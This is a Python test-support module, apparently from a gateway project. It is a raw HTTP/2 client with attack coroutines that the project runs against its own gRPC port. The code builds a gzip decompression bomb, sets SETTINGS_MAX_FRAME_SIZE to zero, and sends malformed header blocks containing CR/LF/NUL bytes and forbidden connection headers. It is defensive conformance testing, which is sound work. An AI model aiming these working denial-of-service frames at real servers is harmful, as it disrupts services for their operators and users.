"""Hostile HTTP/2 clients for the gateway's gRPC port: a raw frame client and one coroutine per attack class.

Frames are built by hand (a conforming library refuses to send most of these), header blocks with
`hpack` or, when they must be malformed, byte by byte. Every wait has a timeout and every loop a
cap, so an attack against a broken gateway ends with an outcome instead of hanging. Used by the
edge test suite (tests/test_edge_*.py) and by the edge benchmark; keep it free of pytest.

    outcome = await rapid_reset("127.0.0.1", 7003, streams=10_000)
    print(outcome.ended_by, outcome.goaway_name, outcome.duration_s)
"""

from __future__ import annotations

import asyncio
import contextlib
import functools
import socket
import struct
import time
import urllib.parse
import zlib
from collections import Counter
from collections.abc import Awaitable, Callable, Iterable, Sequence
from dataclasses import dataclass, field
from typing import Any

import hpack

from flexlb.pb import model_rpc_service_pb2 as pb

# Own copies of the RFC 9113 numbers: this module must run against any version of the gateway.
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM = ACK = 0x1
END_HEADERS = 0x4
PADDED = 0x8
PRIORITY_FLAG = 0x20
HEADER_TABLE_SIZE, ENABLE_PUSH, MAX_CONCURRENT_STREAMS, INITIAL_WINDOW_SIZE, MAX_FRAME_SIZE, MAX_HEADER_LIST_SIZE = (
    range(1, 7))
NO_ERROR, PROTOCOL_ERROR, INTERNAL_ERROR, FLOW_CONTROL_ERROR, SETTINGS_TIMEOUT, STREAM_CLOSED = range(6)
FRAME_SIZE_ERROR, REFUSED_STREAM, CANCEL, COMPRESSION_ERROR, CONNECT_ERROR, ENHANCE_YOUR_CALM = range(6, 12)
ERROR_NAMES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
               4: "SETTINGS_TIMEOUT", 5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL",
               9: "COMPRESSION_ERROR", 10: "CONNECT_ERROR", 11: "ENHANCE_YOUR_CALM", 12: "INADEQUATE_SECURITY",
               13: "HTTP_1_1_REQUIRED"}
DEFAULT_WINDOW = 65_535
MAX_WINDOW = 2**31 - 1
MIB = 1 << 20
GENERATE_PATH = "/RpcService/GenerateStreamCall"

Headers = list[tuple[str, str]]


def error_name(code: int | None) -> str:
    """RFC 9113 name of an error code ("-" for none)."""
    return "-" if code is None else ERROR_NAMES.get(code, f"0x{code:x}")


# ---------------------------------------------------------------- frames and header blocks


def frame_header(ftype: int, flags: int, stream_id: int, length: int) -> bytes:
    """A 9-byte frame header; `length` may disagree with what follows (oversized-frame attacks)."""
    return length.to_bytes(3, "big") + bytes((ftype, flags)) + (stream_id & 0xFFFFFFFF).to_bytes(4, "big")


def frame(ftype: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    """One frame."""
    return frame_header(ftype, flags, stream_id, len(payload)) + payload


def settings_frame(pairs: Iterable[tuple[int, int]] = (), ack: bool = False) -> bytes:
    """SETTINGS with `pairs` in order (duplicates kept: the last one wins at the receiver)."""
    return frame(SETTINGS, ACK if ack else 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def window_update_frame(stream_id: int, increment: int) -> bytes:
    """WINDOW_UPDATE."""
    return frame(WINDOW_UPDATE, 0, stream_id, struct.pack(">I", increment))


def rst_frame(stream_id: int, code: int) -> bytes:
    """RST_STREAM."""
    return frame(RST_STREAM, 0, stream_id, struct.pack(">I", code))


def ping_frame(data: bytes = b"\0" * 8, ack: bool = False) -> bytes:
    """PING."""
    return frame(PING, ACK if ack else 0, 0, data)


def priority_frame(stream_id: int, depends_on: int = 0, weight: int = 15, exclusive: bool = False) -> bytes:
    """PRIORITY."""
    dep = depends_on | (0x80000000 if exclusive else 0)
    return frame(PRIORITY, 0, stream_id, struct.pack(">IB", dep, weight))


def goaway_frame(last_stream_id: int, code: int, debug: bytes = b"") -> bytes:
    """GOAWAY."""
    return frame(GOAWAY, 0, 0, struct.pack(">II", last_stream_id, code) + debug)


def hpack_int(value: int, prefix_bits: int, first: int = 0) -> bytes:
    """An HPACK integer (RFC 7541 §5.1) whose first byte also carries the flag bits `first`."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes((first | value,))
    out = bytearray((first | limit,))
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def hpack_string(data: bytes, huffman: bool = False) -> bytes:
    """An HPACK string literal; with `huffman` the octets are sent as if Huffman-coded (they are not checked)."""
    return hpack_int(len(data), 7, 0x80 if huffman else 0) + data


def hpack_literal(name: bytes, value: bytes, indexing: bool = False) -> bytes:
    """A literal field with a literal name, any octets allowed (`indexing`: added to the dynamic table)."""
    return (b"\x40" if indexing else b"\x00") + hpack_string(name) + hpack_string(value)


def hpack_indexed(index: int) -> bytes:
    """An indexed field (index 0 and indices past the table are errors the receiver must catch)."""
    return hpack_int(index, 7, 0x80)


def hpack_table_size_update(size: int) -> bytes:
    """A dynamic table size update."""
    return hpack_int(size, 5, 0x20)


def literal_block(pairs: Iterable[tuple[bytes, bytes]]) -> bytes:
    """A header block of never-indexed literals, byte for byte (no validation, no lowercasing)."""
    return b"".join(hpack_literal(n, v) for n, v in pairs)


def encode_headers(headers: Sequence[tuple[str, str]]) -> bytes:
    """A valid header block that leaves the receiver's dynamic table alone (never-indexed fields)."""
    # stateless on purpose: whatever the server dropped, later blocks still decode the same
    return bytes(hpack.Encoder().encode([(n, v, True) for n, v in headers], huffman=True))


def request_headers(authority: str, path: str = GENERATE_PATH, extra: Sequence[tuple[str, str]] = ()) -> Headers:
    """The request headers a gRPC client sends."""
    return [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", authority),
            ("te", "trailers"), ("content-type", "application/grpc"), *extra]


def request_pairs(authority: str, path: str = GENERATE_PATH) -> list[tuple[bytes, bytes]]:
    """`request_headers` as octet pairs, for hand-built (malformed) blocks."""
    return [(n.encode(), v.encode()) for n, v in request_headers(authority, path)]


def generate_message(request_id: int = 1, n_tokens: int = 16, max_new_tokens: int = 4) -> bytes:
    """A serialized GenerateInputPB (not framed)."""
    return pb.GenerateInputPB(
        request_id=request_id,
        token_ids=[(1 + i * 31) % 30000 for i in range(n_tokens)],
        generate_config=pb.GenerateConfigPB(max_new_tokens=max_new_tokens, is_streaming=True,
                                            can_use_pd_separation=True),
    ).SerializeToString()


def grpc_frame(message: bytes, compressed: bool = False) -> bytes:
    """gRPC's 5-byte length prefix plus the message."""
    return (b"\x01" if compressed else b"\x00") + len(message).to_bytes(4, "big") + message


def grpc_prefix(length: int) -> bytes:
    """A gRPC message prefix announcing `length` bytes (for bodies that never complete)."""
    return b"\x00" + length.to_bytes(4, "big")


@functools.lru_cache(maxsize=4)
def gzip_bomb_message(inflated_bytes: int) -> bytes:
    """A framed, gzip-compressed gRPC message of `inflated_bytes` zeros (about 1000:1)."""
    z = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    chunk = bytes(MIB)
    parts = []
    left = inflated_bytes
    while left > 0:
        n = min(left, MIB)
        parts.append(z.compress(chunk[:n]))
        left -= n
    parts.append(z.flush())
    return grpc_frame(b"".join(parts), compressed=True)


def grpc_status(headers: Headers | None, trailers: Headers | None) -> tuple[int | None, str]:
    """grpc-status and the decoded grpc-message of a response (trailers-only responses carry them in headers)."""
    fields = dict(trailers if trailers is not None else headers or [])
    status = fields.get("grpc-status")
    code = int(status) if status is not None and status.isdigit() else None
    return code, urllib.parse.unquote(fields.get("grpc-message", ""))


# ---------------------------------------------------------------- the client


class StreamReset(Exception):
    """The server reset the stream before it ended it."""

    def __init__(self, stream_id: int, code: int) -> None:
        super().__init__(f"stream {stream_id} reset with {error_name(code)}")
        self.stream_id = stream_id
        self.code = code


@dataclass
class StreamRecord:
    """What the server sent on one stream, and the send window it granted us."""

    headers: Headers | None = None
    trailers: Headers | None = None
    data: bytearray = field(default_factory=bytearray)  # kept up to RawClient.keep_data bytes
    data_bytes: int = 0
    ended: bool = False  # END_STREAM received
    rst: int | None = None
    window_credit: int = 0  # WINDOW_UPDATEs received minus DATA sent (the window adds the initial size)


@dataclass(frozen=True)
class Goaway:
    """A GOAWAY the server sent."""

    last_stream_id: int
    code: int
    debug: str


class RawClient:
    """An HTTP/2 client over asyncio streams that sends whatever it is told to and records what comes back."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, *, auto_ack: bool = True,
                 auto_window: bool = True, keep_data: int = MIB, max_read_bytes: int = 1 << 30) -> None:
        self.reader = reader
        self.writer = writer
        self.auto_ack = auto_ack  # answer the server's SETTINGS and PINGs
        self.auto_window = auto_window  # give back the window of DATA received (off: a slow reader)
        self.keep_data = keep_data
        self.max_read_bytes = max_read_bytes
        self.streams: dict[int, StreamRecord] = {}
        self.server_settings: dict[int, int] = {}
        self.settings_frames = 0  # SETTINGS (not ACK) received
        self.settings_acks = 0
        self.ping_acks = 0
        self.goaway: Goaway | None = None
        self.closed = False  # EOF or a reset from the server, or closed here
        self.close_reason = ""
        self.frames_received = 0
        self.bytes_received = 0
        self.window_updates_received = 0
        self.bytes_sent = 0
        self.frames_sent = 0
        self.hpack_errors = 0
        self.conn_window = DEFAULT_WINDOW  # what the server lets us send on the connection
        self.server_initial_window = DEFAULT_WINDOW
        self.next_sid = 1
        self.settings_sent = False  # our SETTINGS went out: only then are the server's frames answered
        self._buf = bytearray()
        self._block: tuple[int, int, bytearray] | None = None  # (stream, HEADERS flags, fragments so far)
        self._decoder = hpack.Decoder()
        self._acked_pings: set[bytes] = set()
        self._ping_seq = 0
        self._changed = asyncio.Event()
        self._task: asyncio.Task[None] | None = None

    # ------------------------------------------------------------ connecting

    @classmethod
    async def connect(cls, host: str, port: int, *, preface: bytes | None = PREFACE,
                      settings: Sequence[tuple[int, int]] | None = (), read: bool = True,
                      rcvbuf: int | None = None, timeout_s: float = 5.0, **options: Any) -> RawClient:
        """Connect; send `preface` then SETTINGS(`settings`) unless they are None; read unless `read` is False."""
        loop = asyncio.get_running_loop()
        family, stype, proto, _, addr = (await loop.getaddrinfo(host, port, type=socket.SOCK_STREAM))[0]
        sock = socket.socket(family, stype, proto)
        if rcvbuf is not None:
            # before connect, so the advertised TCP window is small too
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        sock.setblocking(False)
        try:
            await asyncio.wait_for(loop.sock_connect(sock, addr), timeout_s)
            # a small reader limit makes a client that does not read stop taking bytes off the socket soon
            reader, writer = await asyncio.open_connection(sock=sock, limit=16 * 1024 if not read else 1 << 20)
        except BaseException:
            sock.close()
            raise
        client = cls(reader, writer, **options)
        if preface is not None:
            client.send_raw(preface)
            if settings is not None:
                client.send(settings_frame(settings))
                client.settings_sent = True
        if read:
            client.start_reading()
        return client

    def start_reading(self) -> None:
        """Start taking the server's frames off the socket (idempotent)."""
        if self._task is None:
            self._task = asyncio.get_running_loop().create_task(self._read_loop())

    async def close(self) -> None:
        """Close the connection (bounded)."""
        self.closed = True
        if self._task is not None:
            self._task.cancel()
            with contextlib.suppress(BaseException):
                await asyncio.wait_for(self._task, 1.0)
        self.writer.close()
        with contextlib.suppress(Exception):
            await asyncio.wait_for(self.writer.wait_closed(), 1.0)
        self._notify()

    def abort(self) -> None:
        """Drop the connection without a FIN."""
        self.closed = True
        self.writer.transport.abort()
        if self._task is not None:
            self._task.cancel()
        self._notify()

    # ------------------------------------------------------------ sending

    def send_raw(self, data: bytes, frames: int = 0) -> None:
        """Write bytes as they are (`frames`: how many frames they hold, for the counters)."""
        if self.closed or self.writer.is_closing():
            return
        try:
            self.writer.write(data)
        except (ConnectionError, OSError, RuntimeError) as exc:
            self._lost(exc)
            return
        self.bytes_sent += len(data)
        self.frames_sent += frames

    def send(self, *frames: bytes) -> None:
        """Write whole frames (one write)."""
        self.send_raw(b"".join(frames), len(frames))

    async def drain(self, timeout_s: float) -> bool:
        """Wait until the kernel took what was written; False if the server did not read within `timeout_s`."""
        try:
            await asyncio.wait_for(self.writer.drain(), timeout_s)
        except TimeoutError:
            return False
        except (ConnectionError, OSError) as exc:
            self._lost(exc)
        return True

    def new_stream_id(self) -> int:
        """The next client stream id."""
        sid = self.next_sid
        self.next_sid += 2
        return sid

    def headers_frames(self, sid: int, block: bytes, end_stream: bool = False, max_frame: int = 16_384) -> bytes:
        """HEADERS (+ CONTINUATION) carrying `block`."""
        first, rest = block[:max_frame], block[max_frame:]
        flags = END_STREAM if end_stream else 0
        out = [frame(HEADERS, flags | (0 if rest else END_HEADERS), sid, first)]
        for i in range(0, len(rest), max_frame):
            last = i + max_frame >= len(rest)
            out.append(frame(CONTINUATION, END_HEADERS if last else 0, sid, rest[i : i + max_frame]))
        return b"".join(out)

    def data_frames(self, sid: int, data: bytes, end_stream: bool = False, max_frame: int = 16_384) -> bytes:
        """`data` as DATA frames of at most `max_frame` bytes (windows not checked)."""
        if not data:
            return self.data_frame(sid, b"", end_stream)
        return b"".join(self.data_frame(sid, data[i : i + max_frame], end_stream and i + max_frame >= len(data))
                        for i in range(0, len(data), max_frame))

    async def send_body(self, sid: int, data: bytes, end_stream: bool = True, timeout_s: float = 5.0) -> int:
        """Send `data` on `sid` within the windows the server grants, waiting for credit (at most `timeout_s`
        each time); returns the bytes sent."""
        rec = self.record(sid)

        def blocked() -> bool:
            return self.ended() or rec.rst is not None

        pos = 0
        for _ in range(len(data) // 1024 + 1000):  # cap: every pass sends a frame or waits for window
            if pos >= len(data) or blocked():
                break
            if not await self.wait_until(lambda: self.stream_window(sid) > 0 or blocked(), timeout_s) or blocked():
                break
            n = min(16_384, self.stream_window(sid), len(data) - pos)
            self.send(self.data_frame(sid, data[pos : pos + n], end_stream and pos + n >= len(data)))
            pos += n
        return pos

    def data_frame(self, sid: int, data: bytes, end_stream: bool = False) -> bytes:
        """DATA, counted against the windows the server granted (whether or not they allow it)."""
        self.conn_window -= len(data)
        self.record(sid).window_credit -= len(data)
        return frame(DATA, END_STREAM if end_stream else 0, sid, data)

    def call_frames(self, sid: int, message: bytes | None = None, headers: Headers | None = None,
                    block: bytes | None = None, end_stream: bool = True) -> bytes:
        """A GenerateStreamCall request: HEADERS, then DATA with the framed `message` (END_STREAM)."""
        if block is None:
            block = encode_headers(headers if headers is not None else request_headers(self.authority))
        if message is None:
            message = generate_message(sid)
        return self.headers_frames(sid, block) + self.data_frames(sid, grpc_frame(message), end_stream)

    def send_call(self, message: bytes | None = None, headers: Headers | None = None, end_stream: bool = True,
                  sid: int | None = None) -> int:
        """Open a stream with a request; returns its id."""
        sid = self.new_stream_id() if sid is None else sid
        self.send_raw(self.call_frames(sid, message, headers, end_stream=end_stream), 2)
        return sid

    @property
    def authority(self) -> str:
        """host:port of the server."""
        host, port = self.writer.get_extra_info("peername")[:2]
        return f"{host}:{port}"

    def stream_window(self, sid: int) -> int:
        """What the server lets us send on `sid` now (stream and connection windows)."""
        return min(self.conn_window, self.server_initial_window + self.record(sid).window_credit)

    # ------------------------------------------------------------ waiting

    def _notify(self) -> None:
        self._changed.set()
        self._changed = asyncio.Event()

    async def wait_until(self, predicate: Callable[[], bool], timeout_s: float) -> bool:
        """Wait for `predicate` (re-checked on every frame or state change); False after `timeout_s`."""
        loop = asyncio.get_running_loop()
        deadline = loop.time() + timeout_s
        while not predicate():
            left = deadline - loop.time()
            if left <= 0:
                return False
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(self._changed.wait(), left)
        return True

    def ended(self) -> bool:
        """The server ended the connection (GOAWAY or close)."""
        return self.goaway is not None or self.closed

    async def expect_goaway(self, timeout_s: float = 5.0) -> int | None:
        """The GOAWAY error code; None if the connection was closed without one. TimeoutError if still open."""
        if not await self.wait_until(self.ended, timeout_s):
            raise TimeoutError(f"no GOAWAY and not closed within {timeout_s}s: {self.describe()}")
        return self.goaway.code if self.goaway is not None else None

    async def expect_closed(self, timeout_s: float = 5.0) -> None:
        """Wait for the server to close the connection; TimeoutError if it does not."""
        if not await self.wait_until(lambda: self.closed, timeout_s):
            raise TimeoutError(f"connection not closed within {timeout_s}s: {self.describe()}")

    async def expect_rst(self, sid: int, timeout_s: float = 5.0) -> int:
        """The RST_STREAM code of `sid`; TimeoutError (saying what happened instead) if none comes."""
        rec = self.record(sid)
        if not await self.wait_until(lambda: rec.rst is not None or self.ended(), timeout_s) or rec.rst is None:
            raise TimeoutError(f"no RST_STREAM on stream {sid} within {timeout_s}s: {self.describe(sid)}")
        return rec.rst

    async def response(self, sid: int, timeout_s: float = 5.0) -> tuple[Headers | None, bytes, Headers | None]:
        """(headers, data, trailers) once the server ended the stream; StreamReset if it reset it first."""
        rec = self.record(sid)
        await self.wait_until(lambda: rec.ended or rec.rst is not None or self.ended(), timeout_s)
        if not rec.ended:
            if rec.rst is not None:
                raise StreamReset(sid, rec.rst)
            raise TimeoutError(f"stream {sid} not ended within {timeout_s}s: {self.describe(sid)}")
        return rec.headers, bytes(rec.data), rec.trailers

    async def status(self, sid: int, timeout_s: float = 5.0) -> tuple[int | None, str]:
        """grpc-status and grpc-message of `sid`."""
        headers, _, trailers = await self.response(sid, timeout_s)
        return grpc_status(headers, trailers)

    async def ping(self, timeout_s: float = 5.0) -> bool:
        """Round trip barrier: True once our PING is ACKed (everything sent before it was handled),
        False if the connection ended first; TimeoutError if neither happens."""
        if self.ended():
            return False
        self._ping_seq += 1
        data = b"barrier" + bytes((self._ping_seq % 256,))
        self.send(ping_frame(data))
        if not await self.wait_until(lambda: data in self._acked_pings or self.ended(), timeout_s):
            raise TimeoutError(f"no PING ACK within {timeout_s}s: {self.describe()}")
        acked = data in self._acked_pings
        self._acked_pings.discard(data)
        return acked

    def record(self, sid: int) -> StreamRecord:
        """What is known about stream `sid`."""
        rec = self.streams.get(sid)
        if rec is None:
            rec = self.streams[sid] = StreamRecord()
        return rec

    def rst_codes(self) -> dict[int, int]:
        """RST_STREAM error code → streams reset with it."""
        return dict(Counter(r.rst for r in self.streams.values() if r.rst is not None))

    def grpc_statuses(self) -> dict[int, int]:
        """grpc-status → streams the server ended with it."""
        codes = (grpc_status(r.headers, r.trailers)[0] for r in self.streams.values() if r.ended)
        return dict(Counter(c for c in codes if c is not None))

    def describe(self, sid: int | None = None) -> str:
        """A one-line summary for assertion messages."""
        parts = [f"closed={self.closed}{' (' + self.close_reason + ')' if self.close_reason else ''}"]
        if self.goaway is not None:
            parts.append(f"GOAWAY {error_name(self.goaway.code)} {self.goaway.debug!r}")
        parts.append(f"rst={ {error_name(k): v for k, v in self.rst_codes().items()} }")
        parts.append(f"frames_received={self.frames_received}")
        if sid is not None:
            rec = self.record(sid)
            parts.append(f"stream {sid}: headers={rec.headers} trailers={rec.trailers} data={rec.data_bytes}B "
                         f"ended={rec.ended}")
        return ", ".join(parts)

    # ------------------------------------------------------------ reading

    def _lost(self, exc: BaseException | None) -> None:
        if not self.closed:
            self.closed = True
            self.close_reason = repr(exc) if exc is not None else "EOF"
        self._notify()

    async def _read_loop(self) -> None:
        exc: BaseException | None = None
        try:
            while self.bytes_received < self.max_read_bytes:
                data = await self.reader.read(256 * 1024)
                if not data:
                    break
                self.bytes_received += len(data)
                self._feed(data)
        except (ConnectionError, OSError) as err:
            exc = err
        self._lost(exc)

    def _feed(self, data: bytes) -> None:
        buf = self._buf
        buf += data
        pos = 0
        while len(buf) - pos >= 9:
            length = int.from_bytes(buf[pos : pos + 3], "big")
            if len(buf) - pos - 9 < length:
                break
            ftype, flags = buf[pos + 3], buf[pos + 4]
            sid = int.from_bytes(buf[pos + 5 : pos + 9], "big") & 0x7FFFFFFF
            payload = bytes(buf[pos + 9 : pos + 9 + length])
            pos += 9 + length
            self.frames_received += 1
            self._frame(ftype, flags, sid, payload)
        del buf[:pos]
        self._notify()

    def _frame(self, ftype: int, flags: int, sid: int, payload: bytes) -> None:
        if ftype == DATA:
            self._on_data(flags, sid, payload)
        elif ftype == HEADERS:
            if flags & PADDED and payload:
                payload = payload[1 : len(payload) - payload[0]]
            if flags & PRIORITY_FLAG:
                payload = payload[5:]
            if flags & END_HEADERS:
                self._on_block(sid, flags, payload)
            else:
                self._block = (sid, flags, bytearray(payload))
        elif ftype == CONTINUATION and self._block is not None:
            self._block[2].extend(payload)
            if flags & END_HEADERS:
                bsid, bflags, block = self._block
                self._block = None
                self._on_block(bsid, bflags, bytes(block))
        elif ftype == RST_STREAM and len(payload) == 4:
            self.record(sid).rst = int.from_bytes(payload, "big")
        elif ftype == SETTINGS:
            self._on_settings(flags, payload)
        elif ftype == PING:
            if flags & ACK:
                self.ping_acks += 1
                if payload.startswith(b"barrier"):
                    self._acked_pings.add(payload)
            elif self.auto_ack and self.settings_sent:
                self.send(ping_frame(payload, ack=True))
        elif ftype == GOAWAY and len(payload) >= 8:
            last, code = struct.unpack(">II", payload[:8])
            self.goaway = Goaway(last & 0x7FFFFFFF, code, payload[8:].decode("latin-1"))
        elif ftype == WINDOW_UPDATE and len(payload) == 4:
            self.window_updates_received += 1
            inc = int.from_bytes(payload, "big") & 0x7FFFFFFF
            if sid == 0:
                self.conn_window += inc
            else:
                self.record(sid).window_credit += inc

    def _on_settings(self, flags: int, payload: bytes) -> None:
        if flags & ACK:
            self.settings_acks += 1
            return
        self.settings_frames += 1
        for key, value in struct.iter_unpack(">HI", payload[: len(payload) // 6 * 6]):
            if key == INITIAL_WINDOW_SIZE:
                self.server_initial_window = value
            self.server_settings[key] = value
        if self.auto_ack and self.settings_sent:
            self.send(settings_frame(ack=True))

    def _on_data(self, flags: int, sid: int, payload: bytes) -> None:
        rec = self.record(sid)
        room = self.keep_data - len(rec.data)
        if room > 0:
            rec.data += payload[:room]
        rec.data_bytes += len(payload)
        if flags & END_STREAM:
            rec.ended = True
        if self.auto_window and payload:
            out = [window_update_frame(0, len(payload))]
            if not rec.ended:
                out.append(window_update_frame(sid, len(payload)))
            self.send(*out)

    def _on_block(self, sid: int, flags: int, block: bytes) -> None:
        try:
            headers = [(bytes(n).decode("latin-1"), bytes(v).decode("latin-1"))
                       for n, v in self._decoder.decode(block, raw=True)]
        except Exception:  # a broken block from the server: counted, the rest is still recorded
            self.hpack_errors += 1
            return
        rec = self.record(sid)
        if rec.headers is None:
            rec.headers = headers
        else:
            rec.trailers = headers
        if flags & END_STREAM:
            rec.ended = True


# ---------------------------------------------------------------- attack outcomes


@dataclass
class AttackOutcome:
    """How one attack ended, seen from the attacker."""

    attack: str
    ended_by: str  # "goaway" (GOAWAY received), "closed" (closed without GOAWAY) or "open" (still usable)
    goaway_code: int | None = None
    goaway_debug: str = ""
    rst_codes: dict[int, int] = field(default_factory=dict)  # RST_STREAM code → streams reset with it
    grpc_statuses: dict[int, int] = field(default_factory=dict)  # grpc-status → streams ended with it
    bytes_sent: int = 0
    frames_sent: int = 0
    duration_s: float = 0.0
    figures: dict[str, float] = field(default_factory=dict)  # attack-specific numbers (see each attack)

    @property
    def goaway_name(self) -> str:
        """The GOAWAY code's name ("-" if none)."""
        return error_name(self.goaway_code)


Probe = Callable[[list[RawClient]], Awaitable[None]]


class _Session:
    """The attacking connections of one attack: always closed, summarised into an AttackOutcome."""

    def __init__(self, name: str, host: str, port: int, timeout_s: float, probe: Probe | None) -> None:
        self.name = name
        self.host = host
        self.port = port
        self.timeout_s = timeout_s
        self.probe = probe
        self.clients: list[RawClient] = []
        self.started = time.monotonic()

    async def __aenter__(self) -> _Session:
        return self

    async def __aexit__(self, *exc: object) -> None:
        for c in self.clients:
            await c.close()

    async def connect(self, **kw: Any) -> RawClient:
        """One more attacking connection; with a handshake, returns once the server's SETTINGS are in."""
        c = await RawClient.connect(self.host, self.port, timeout_s=self.timeout_s, **kw)
        self.clients.append(c)
        if kw.get("read", True) and kw.get("settings", ()) is not None and kw.get("preface", PREFACE) is not None:
            # the attack then starts from a known window state
            await c.wait_until(lambda: c.settings_frames > 0 or c.ended(), self.timeout_s)
        return c

    async def run_probe(self) -> None:
        """Let the caller look at the gateway while the attack holds (once)."""
        probe, self.probe = self.probe, None
        if probe is not None:
            await probe(self.clients)

    async def finish(self, figures: dict[str, float] | None = None, barrier: bool = True) -> AttackOutcome:
        """Barrier on every connection (its GOAWAY or its PING ACK), probe, summarise."""
        for c in self.clients:
            if barrier and not c.ended():
                with contextlib.suppress(TimeoutError):
                    await c.ping(self.timeout_s)
            if c.goaway is not None and not c.closed:
                await c.wait_until(lambda c=c: c.closed, self.timeout_s)  # type: ignore[misc]
        duration = time.monotonic() - self.started
        await self.run_probe()
        out = AttackOutcome(self.name, "open", duration_s=duration, figures=dict(figures or {}))
        rst: Counter[int] = Counter()
        statuses: Counter[int] = Counter()
        for c in self.clients:
            rst.update(c.rst_codes())
            statuses.update(c.grpc_statuses())
            out.bytes_sent += c.bytes_sent
            out.frames_sent += c.frames_sent
            if c.goaway is not None:
                out.ended_by, out.goaway_code, out.goaway_debug = "goaway", c.goaway.code, c.goaway.debug
            elif c.closed and out.ended_by == "open":
                out.ended_by = "closed"
        out.rst_codes, out.grpc_statuses = dict(rst), dict(statuses)
        return out


async def _send_in_slices(c: RawClient, blob_of: Callable[[int], bytes], count: int, per_write: int,
                          drain_s: float) -> int:
    """Write `count` frames `per_write` at a time while the connection is open; returns frames written."""
    sent = 0
    while sent < count and not c.ended():
        n = min(per_write, count - sent)
        c.send_raw(blob_of(n), n)
        sent += n
        if not await c.drain(drain_s):
            break  # the server stopped reading
    return sent


# ---------------------------------------------------------------- attacks


async def settings_max_frame_size_zero(host: str, port: int, *, after_response: bool = False,
                                       max_new_tokens: int = 2000, timeout_s: float = 5.0,
                                       probe: Probe | None = None) -> AttackOutcome:
    """SETTINGS_MAX_FRAME_SIZE = 0: in the first SETTINGS, or once a response flows (a 0-byte chunking loop)."""
    async with _Session("settings_max_frame_size_zero", host, port, timeout_s, probe) as s:
        if not after_response:
            await s.connect(settings=[(MAX_FRAME_SIZE, 0)])
            return await s.finish()
        c = await s.connect()
        sid = c.send_call(generate_message(1, max_new_tokens=max_new_tokens))
        rec = c.record(sid)
        await c.wait_until(lambda: rec.data_bytes > 0 or rec.ended or c.ended(), timeout_s)
        c.send(settings_frame([(MAX_FRAME_SIZE, 0)]))
        return await s.finish({"response_bytes": rec.data_bytes})


MALFORMED_CASES = (
    "uppercase_name", "empty_name", "unknown_pseudo", "status_in_request", "pseudo_after_regular",
    "duplicate_pseudo", "missing_method", "missing_scheme", "missing_path", "empty_path", "connection",
    "keep_alive", "proxy_connection", "transfer_encoding", "upgrade", "te_not_trailers", "nul_in_value",
    "cr_in_value", "lf_in_value", "pseudo_in_trailers", "second_headers_without_end_stream",
    "content_length_mismatch",
)
_EXTRA_FIELD = {
    "uppercase_name": (b"X-Upper", b"1"), "empty_name": (b"", b"x"), "connection": (b"connection", b"close"),
    "keep_alive": (b"keep-alive", b"timeout=5"), "proxy_connection": (b"proxy-connection", b"keep-alive"),
    "transfer_encoding": (b"transfer-encoding", b"chunked"), "upgrade": (b"upgrade", b"h2c"),
    "nul_in_value": (b"x-bad", b"a\x00b"), "cr_in_value": (b"x-bad", b"a\rb"), "lf_in_value": (b"x-bad", b"a\nb"),
}


def malformed_request(c: RawClient, sid: int, case: str, message: bytes) -> bytes:
    """The frames of one malformed request (RFC 9113 §8.2, §8.3) on `sid`, body included."""
    base = request_pairs(c.authority)
    pseudo, regular = base[:4], base[4:]
    body = grpc_frame(message)
    pairs: list[tuple[bytes, bytes]]
    if case in _EXTRA_FIELD:
        pairs = [*base, _EXTRA_FIELD[case]]
    elif case == "unknown_pseudo":
        pairs = [*pseudo, (b":foo", b"bar"), *regular]
    elif case == "status_in_request":
        pairs = [*pseudo, (b":status", b"200"), *regular]
    elif case == "pseudo_after_regular":
        pairs = [*pseudo[:3], *regular, pseudo[3]]
    elif case == "duplicate_pseudo":
        pairs = [*pseudo, pseudo[2], *regular]
    elif case.startswith("missing_"):
        gone = b":" + case.removeprefix("missing_").encode()
        pairs = [p for p in base if p[0] != gone]
    elif case == "empty_path":
        pairs = [(n, b"" if n == b":path" else v) for n, v in base]
    elif case == "te_not_trailers":
        pairs = [(n, b"gzip" if n == b"te" else v) for n, v in base]
    elif case == "content_length_mismatch":
        pairs = [*base, (b"content-length", str(len(body) + 100).encode())]
    elif case == "pseudo_in_trailers":
        return (c.headers_frames(sid, literal_block(base)) + c.data_frame(sid, body)
                + c.headers_frames(sid, literal_block([(b":path", b"/x")]), end_stream=True))
    elif case == "second_headers_without_end_stream":
        return (c.headers_frames(sid, literal_block(base)) + c.data_frame(sid, body)
                + c.headers_frames(sid, literal_block([(b"x-more", b"1")])))
    else:
        raise ValueError(f"unknown malformed-header case {case!r}")
    return c.headers_frames(sid, literal_block(pairs)) + c.data_frame(sid, body, end_stream=True)


async def malformed_header(host: str, port: int, *, case: str = "uppercase_name", streams: int = 1,
                           max_new_tokens: int = 4, timeout_s: float = 5.0,
                           probe: Probe | None = None) -> AttackOutcome:
    """`streams` GenerateStreamCall requests, each malformed as `case` (one of MALFORMED_CASES)."""
    async with _Session(f"malformed_header:{case}", host, port, timeout_s, probe) as s:
        c = await s.connect()
        sids = []
        for _ in range(streams):
            if c.ended():
                break
            sid = c.new_stream_id()
            sids.append(sid)
            c.send_raw(malformed_request(c, sid, case, generate_message(sid, max_new_tokens=max_new_tokens)), 2)
            if len(sids) % 200 == 0:
                await c.drain(timeout_s)
        await c.wait_until(lambda: c.ended() or all(c.record(x).rst is not None or c.record(x).ended for x in sids),
                           timeout_s)
        return await s.finish()


async def empty_header_name(host: str, port: int, **kw: Any) -> AttackOutcome:
    """A request with an empty header name."""
